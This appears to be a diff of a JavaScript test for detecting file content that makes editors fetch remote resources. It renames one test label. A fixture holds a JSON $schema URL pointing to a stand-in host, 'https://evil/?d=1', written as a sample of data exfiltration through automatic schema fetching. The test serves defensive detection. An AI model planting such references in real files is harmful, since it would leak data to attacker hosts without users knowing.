@@ -2,7 +2,7 @@ import assert from "node:assert/strict";
 import fc from "fast-check";
 import { controlFileContent } from "../../../../src/core/access/controlFileContent.js";
 
-describe("content that steers others", () => {
+describe("content that controls others", () => {
   it("is a schema that an editor would fetch", () => {
     for (const [path, text] of [
       ["a.json", '{"$schema":"https://evil/?d=1"}'],
